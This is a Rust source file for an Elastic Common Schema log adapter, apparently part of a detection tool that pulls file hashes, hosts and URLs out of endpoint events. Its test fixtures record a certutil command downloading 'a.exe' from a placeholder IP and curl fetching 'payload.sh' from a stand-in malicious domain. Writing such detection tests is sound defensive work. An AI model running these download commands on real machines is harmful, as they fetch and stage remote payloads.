//! `ecs`: Elastic Common Schema documents, as Winlogbeat, Filebeat and Elastic Agent ship
//! them. Fields may be nested (`{"file":{"hash":{"sha256":…}}}`), dotted
//! (`{"file.hash.sha256":…}`) or a mix; the path walk reads all of them alike.
//!
//! | ECS | native |
//! | --- | --- |
//! | `@timestamp` (required) | Timestamp |
//! | `host.id`, else `agent.id` | DeviceId |
//! | `host.name`, else `host.hostname` | DeviceName |
//! | `event.action` | ActionType |
//! | `file.path`/`file.name`, `file.hash.*`, `dll.path`/`dll.name`, `dll.hash.*` | FileName, SHA1/SHA256/MD5 |
//! | `process.executable`/`process.name`, `process.hash.*` | InitiatingProcess* (FileName/SHA* for a process start) |
//! | `process.parent.executable`/`.name`, `process.parent.hash.*` | InitiatingProcess* |
//! | `destination.ip`, `dns.resolved_ip`, `dns.answers.data` | RemoteIP |
//! | `url.full`/`url.original`, `url.domain`, `destination.domain`, `tls.client.server_name` | RemoteUrl |
//! | `dns.question.name` | DnsQuery |
//! | URLs in `process.command_line`, `process.parent.command_line` | RemoteUrl |
//!
//! `source.ip` is not matched: in ECS it is the local end of an outbound connection as often
//! as not, and matching it would alert on the device's own address.

use std::borrow::Cow;

use super::body::for_each_json_event;
use super::values::{parse_timestamp, present, Observables, Parts, Subject};
use super::walk::{walk_json_text, Scalar, Sink};
use super::{Adapter, Format, LineError};
use crate::event::{Event, Field};

/// The `ecs` adapter.
#[derive(Debug, Clone, Copy, Default)]
pub struct EcsAdapter;

impl Adapter for EcsAdapter {
    fn format(&self) -> Format {
        Format::Ecs
    }

    fn parse<'a>(&self, body: &'a [u8], emit: &mut dyn FnMut(Result<Event<'a>, LineError>)) {
        for_each_json_event(body, emit, map);
    }
}

fn map(text: &str) -> Result<Parts<'_>, String> {
    let mut sink = EcsSink::default();
    walk_json_text(text, &mut sink)?;
    sink.finish()
}

/// Hashes, file name and path of one ECS file-like field set (`file`, `dll`, `process`,
/// `process.parent`).
#[derive(Default)]
struct FileSet<'a> {
    path: Option<Cow<'a, str>>,
    name: Option<Cow<'a, str>>,
    sha1: Option<Cow<'a, str>>,
    sha256: Option<Cow<'a, str>>,
    md5: Option<Cow<'a, str>>,
}

impl<'a> FileSet<'a> {
    /// Takes `path`/`executable`, `name` and `hash.*` keys (relative to the field set).
    fn set(&mut self, key: &str, value: Scalar<'a>) {
        let slot = match key {
            "path" | "executable" => &mut self.path,
            "name" => &mut self.name,
            "hash.sha1" => &mut self.sha1,
            "hash.sha256" => &mut self.sha256,
            "hash.md5" => &mut self.md5,
            _ => return,
        };
        *slot = value.into_text();
    }

    fn push(&self, subject: Subject, o: &mut Observables<'a>) {
        // The path holds the name; the name alone only when there is no path.
        o.push_opt(subject.file_name(), self.path.as_ref().or(self.name.as_ref()));
        o.push_opt(subject.sha1(), self.sha1.as_ref());
        o.push_opt(subject.sha256(), self.sha256.as_ref());
        o.push_opt(subject.md5(), self.md5.as_ref());
    }
}

#[derive(Default)]
struct EcsSink<'a> {
    timestamp: Option<Cow<'a, str>>,
    host_id: Option<Cow<'a, str>>,
    agent_id: Option<Cow<'a, str>>,
    host_name: Option<Cow<'a, str>>,
    host_hostname: Option<Cow<'a, str>>,
    action: Option<Cow<'a, str>>,
    /// `event.category` contains `process` and `event.type` contains `start`.
    category_process: bool,
    type_start: bool,
    file: FileSet<'a>,
    dll: FileSet<'a>,
    process: FileSet<'a>,
    parent: FileSet<'a>,
    /// Network values, several per document (`dns.resolved_ip` is a list), in document order.
    network: Observables<'a>,
}

impl<'a> Sink<'a> for EcsSink<'a> {
    fn leaf(&mut self, path: &str, value: Scalar<'a>) {
        if matches!(path, "process.command_line" | "process.parent.command_line") {
            if let Some(command_line) = value.into_text() {
                self.network.push_urls_in(&command_line);
            }
            return;
        }
        if let Some(key) = path.strip_prefix("file.") {
            return self.file.set(key, value);
        }
        if let Some(key) = path.strip_prefix("dll.") {
            return self.dll.set(key, value);
        }
        if let Some(key) = path.strip_prefix("process.parent.") {
            return self.parent.set(key, value);
        }
        if let Some(key) = path.strip_prefix("process.") {
            return self.process.set(key, value);
        }
        match path {
            "@timestamp" => self.timestamp = value.into_text(),
            "host.id" => self.host_id = value.into_text(),
            "agent.id" => self.agent_id = value.into_text(),
            "host.name" => self.host_name = value.into_text(),
            "host.hostname" => self.host_hostname = value.into_text(),
            "event.action" => self.action = value.into_text(),
            "event.category" => self.category_process |= value.into_text().is_some_and(|v| v == "process"),
            "event.type" => self.type_start |= value.into_text().is_some_and(|v| v == "start"),
            "destination.ip" | "dns.resolved_ip" => {
                if let Some(ip) = value.into_text() {
                    self.network.push_ip(&ip);
                }
            }
            "dns.answers.data" => {
                if let Some(answer) = value.into_text() {
                    self.network.push_answer(&answer);
                }
            }
            "url.full" | "url.original" => {
                if let Some(url) = value.into_text() {
                    self.network.push(Field::RemoteUrl, &url);
                }
            }
            "url.domain" | "destination.domain" | "tls.client.server_name" => {
                if let Some(host) = value.into_text() {
                    self.network.push_host(&host);
                }
            }
            "dns.question.name" => {
                if let Some(name) = value.into_text() {
                    self.network.push_query(&name);
                }
            }
            _ => {}
        }
    }
}

impl<'a> EcsSink<'a> {
    fn finish(self) -> Result<Parts<'a>, String> {
        let stamp = self.timestamp.and_then(present).ok_or("missing required field @timestamp")?;
        let timestamp = parse_timestamp(&stamp).ok_or("invalid @timestamp: expected an ISO 8601 date-time")?;
        let mut parts = Parts::new(timestamp);
        let first = |a: Option<Cow<'a, str>>, b: Option<Cow<'a, str>>| {
            a.and_then(present).or_else(|| b.and_then(present))
        };
        parts.device_id = first(self.host_id, self.agent_id);
        parts.device_name = first(self.host_name, self.host_hostname);
        parts.action_type = self.action.and_then(present);
        let o = &mut parts.observables;
        self.file.push(Subject::File, o);
        self.dll.push(Subject::File, o);
        // In a process start `process.*` is the new process (Defender's FileName/SHA1) and
        // `process.parent.*` the one that started it; elsewhere `process.*` is the actor.
        if self.category_process && self.type_start {
            self.process.push(Subject::File, o);
            self.parent.push(Subject::InitiatingProcess, o);
        } else {
            self.process.push(Subject::InitiatingProcess, o);
            self.parent.push(Subject::InitiatingProcess, o);
        }
        for observable in self.network.0 {
            o.push(observable.field, &observable.value);
        }
        Ok(parts)
    }
}

#[cfg(test)]
mod tests {
    use super::super::parse_all;
    use super::*;

    fn obs<'e>(e: &'e Event) -> Vec<(Field, &'e str)> {
        e.observables.iter().map(|o| (o.field, o.value.as_ref())).collect()
    }

    /// A Sysmon process create as Winlogbeat 8 ships it (trimmed: `winlog.event_data` and
    /// `message` repeat what the ECS fields say).
    const WINLOGBEAT_SYSMON_PROCESS: &str = r#"{"@timestamp":"2023-03-14T09:12:44.512Z","agent":{"type":"winlogbeat","version":"8.6.2","id":"4b2e6c1d-7d39-4a5e-9c0e-2f1f3f3c9a10","name":"WS-042"},"ecs":{"version":"1.12.0"},"host":{"name":"ws-042.corp.example","hostname":"WS-042","id":"b5ad6a2e-9b4c-4a36-8e3b-0d0c1e9e6a77","os":{"family":"windows"}},"event":{"code":"1","kind":"event","provider":"Microsoft-Windows-Sysmon","category":["process"],"type":["start"],"created":"2023-03-14T09:12:45.031Z","module":"sysmon","action":"Process Create (rule: ProcessCreate)"},"log":{"level":"information"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"WS-042.corp.example","event_data":{"Company":"Microsoft Corporation","FileVersion":"10.0.19041.1"}},"process":{"entity_id":"{8b2a3c1e-3a2c-6410-d204-000000000f00}","pid":6120,"executable":"C:\\Windows\\System32\\certutil.exe","command_line":"certutil.exe -urlcache -split -f http://198.51.100.23/a.exe a.exe","name":"certutil.exe","pe":{"original_file_name":"CertUtil.exe"},"hash":{"md5":"f3b2a5f8a2c1d3e4f5a6b7c8d9e0f1a2","sha256":"0c2f8fb5a48ba1f3b2e3b1d6f2f7b1d0a9c8e7f6d5c4b3a2918070605040302a","sha1":"5a1e0e9f8c6b4a3d2c1b0a9f8e7d6c5b4a3f2e1d"},"parent":{"executable":"C:\\Windows\\System32\\cmd.exe","name":"cmd.exe","pid":5012}},"user":{"name":"alice","domain":"CORP"},"related":{"user":["alice"],"hash":["5a1e0e9f8c6b4a3d2c1b0a9f8e7d6c5b4a3f2e1d"]}}"#;

    /// A network event from Elastic Agent (Elastic Defend), with dotted keys as some
    /// pipelines write them.
    const ELASTIC_AGENT_NETWORK: &str = r#"{"@timestamp":"2024-05-02T17:03:11.8Z","agent.id":"9e1c2f00-aaaa-bbbb-cccc-0123456789ab","agent.type":"endpoint","host.hostname":"build-07","host.os.family":"linux","event.category":["network"],"event.type":["start","connection"],"event.action":"connection_attempted","event.dataset":"endpoint.events.network","network.transport":"tcp","network.direction":"egress","source.ip":"10.1.2.3","source.port":51544,"destination.ip":"203.0.113.77","destination.port":443,"destination.domain":"update.bad.example","process.executable":"/usr/bin/curl","process.name":"curl","process.pid":4141,"url.full":"https://update.bad.example/payload.sh","dns.question.name":"update.bad.example","dns.resolved_ip":["203.0.113.77","203.0.113.78"]}"#;

    #[test]
    fn winlogbeat_sysmon_process_create() {
        let (events, errors) = parse_all(Format::Ecs, WINLOGBEAT_SYSMON_PROCESS.as_bytes());
        assert!(errors.is_empty(), "{errors:?}");
        let e = &events[0];
        assert_eq!(e.timestamp.to_rfc3339(), "2023-03-14T09:12:44.512+00:00");
        assert_eq!(e.device_id.as_deref(), Some("b5ad6a2e-9b4c-4a36-8e3b-0d0c1e9e6a77"));
        assert_eq!(e.device_name.as_deref(), Some("ws-042.corp.example"));
        assert_eq!(e.action_type.as_deref(), Some("Process Create (rule: ProcessCreate)"));
        assert_eq!(
            obs(e),
            vec![
                (Field::FileName, r"C:\Windows\System32\certutil.exe"),
                (Field::Sha1, "5a1e0e9f8c6b4a3d2c1b0a9f8e7d6c5b4a3f2e1d"),
                (Field::Sha256, "0c2f8fb5a48ba1f3b2e3b1d6f2f7b1d0a9c8e7f6d5c4b3a2918070605040302a"),
                (Field::Md5, "f3b2a5f8a2c1d3e4f5a6b7c8d9e0f1a2"),
                (Field::InitiatingProcessFileName, r"C:\Windows\System32\cmd.exe"),
                (Field::RemoteUrl, "http://198.51.100.23/a.exe"),
            ]
        );
    }

    #[test]
    fn elastic_agent_network_event_with_dotted_keys() {
        let (events, errors) = parse_all(Format::Ecs, ELASTIC_AGENT_NETWORK.as_bytes());
        assert!(errors.is_empty(), "{errors:?}");
        let e = &events[0];
        assert_eq!(e.device_id.as_deref(), Some("9e1c2f00-aaaa-bbbb-cccc-0123456789ab"));
        assert_eq!(e.device_name.as_deref(), Some("build-07"));
        assert_eq!(
            obs(e),
            vec![
                (Field::InitiatingProcessFileName, "/usr/bin/curl"),
                (Field::RemoteIp, "203.0.113.77"),
                (Field::RemoteUrl, "update.bad.example"),
                (Field::RemoteUrl, "https://update.bad.example/payload.sh"),
                (Field::DnsQuery, "update.bad.example"),
                (Field::RemoteIp, "203.0.113.78"),
            ]
        );
        assert!(!obs(e).contains(&(Field::RemoteIp, "10.1.2.3")));
    }

    #[test]
    fn mixed_nesting_and_errors() {
        let body = concat!(
            r#"{"@timestamp":"2024-01-01T00:00:00Z","host":{"name":"h"},"file.hash":{"sha256":"AA"},"file":{"path":"/tmp/x"},"dll":{"hash.sha1":"BB"}}"#,
            "\n",
            r#"{"host":{"name":"h"}}"#,
            "\n",
            r#"{"@timestamp":"never"}"#,
        );
        let (events, errors) = parse_all(Format::Ecs, body.as_bytes());
        assert_eq!(
            obs(&events[0]),
            vec![(Field::FileName, "/tmp/x"), (Field::Sha256, "AA"), (Field::Sha1, "BB")]
        );
        assert_eq!(errors.iter().map(|e| e.line).collect::<Vec<_>>(), vec![2, 3]);
        assert_eq!(errors[0].message, "missing required field @timestamp");
    }
}
